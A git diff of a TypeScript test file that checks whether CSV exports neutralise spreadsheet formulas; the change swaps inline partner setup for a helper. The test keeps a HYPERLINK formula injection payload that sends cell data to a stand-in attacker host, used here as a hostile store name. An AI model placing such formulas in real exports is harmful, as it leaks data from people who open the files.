@@ -5,27 +5,17 @@
  * PayPal payout file. Each comes from the one writer (core/shared/csv.ts): the cell starts with a
  * quote, the export still reads back, and numbers (ids, prices, counts, amounts) stay numbers.
  */
-import { randomUUID } from "node:crypto";
 import { sql } from "drizzle-orm";
 import { parse } from "csv-parse/sync";
 import { beforeAll, expect, it } from "vitest";
 import { recordAudit } from "../../core/audit/index.server.ts";
 import { monthReportCsv } from "../../core/partner-users/index.ts";
-import {
-  invitePartnerUser,
-  partnerLogin,
-  setPartnerPassword,
-  createStoreTrade,
-  monthReport,
-  scopeOf,
-} from "../../core/partner-users/index.server.ts";
+import { createStoreTrade, monthReport, scopeOf } from "../../core/partner-users/index.server.ts";
 import { rows } from "../../core/shared/index.server.ts";
-import { partners } from "../../db/schema/index.ts";
 import { describeEachDatabase } from "../../tests/helpers/databases.ts";
 import { BACKOFFICE, bearer, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
-import { placeTestTrade, smartphoneOffer, toPayoutPending, uniqueClientAddress, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
-import { insertTestStore, walkInTrade } from "../../tests/helpers/store-trades.ts";
-import { staffEnvFrom } from "../sessions/staff-env.server.ts";
+import { placeTestTrade, smartphoneOffer, toPayoutPending, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
+import { storeClerk, walkInTrade } from "../../tests/helpers/store-trades.ts";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
 let seq = 0;
@@ -105,26 +95,7 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
   it("the partner portal's month report writes a store named like a formula as text, its counts and euros as numbers", async () => {
     const db = ctx().database.db;
     const now = new Date();
-    const partnerId = randomUUID();
-    await db.insert(partners).values({
-      id: partnerId,
-      key: `k-${partnerId.slice(0, 12)}`,
-      name: "Kette Formel",
-      kind: "agan",
-      voucherPrefix: "KF",
-      createdAt: now,
-      updatedAt: now,
-    });
-    const storeId = await insertTestStore(ctx(), partnerId, FORMULA, `formel.${partnerId.slice(0, 8)}@example.com`);
-    const env = staffEnvFrom(ctx().deps, uniqueClientAddress());
-    const email = `store_staff.${partnerId.slice(0, 8)}@filiale.example`;
-    const { token } = await invitePartnerUser(
-      env,
-      { id: "staff", email: "admin@example.com" },
-      { partnerId, email, displayName: "Petra Filiale", roles: ["store_staff"], storeId },
-    );
-    await setPartnerPassword(env, token, "Filiale-Passwort-2026");
-    const { context } = await partnerLogin(env, { email, password: "Filiale-Passwort-2026" }, "web");
+    const { context } = await storeClerk(ctx(), "Kette Formel", FORMULA);
     const { offerId } = await smartphoneOffer(ctx());
     await createStoreTrade(db, context, walkInTrade(offerId, "Wanda", "Laufkundin", "wanda@example.com"), now);
 
